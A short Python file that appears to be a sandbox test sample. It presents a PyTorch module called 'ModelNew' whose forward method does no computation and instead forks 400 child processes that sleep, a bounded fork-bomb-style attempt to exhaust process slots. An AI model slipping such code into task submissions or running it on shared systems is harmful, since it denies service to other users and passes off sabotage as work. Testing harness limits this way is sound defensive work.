"""Starts processes until there is no room for more; bounded, so that a machine without a sandbox survives it."""

import os
import time

from torch import nn

MOST = 400


class ModelNew(nn.Module):
    def forward(self, a, b):
        for _ in range(MOST):
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        time.sleep(20)
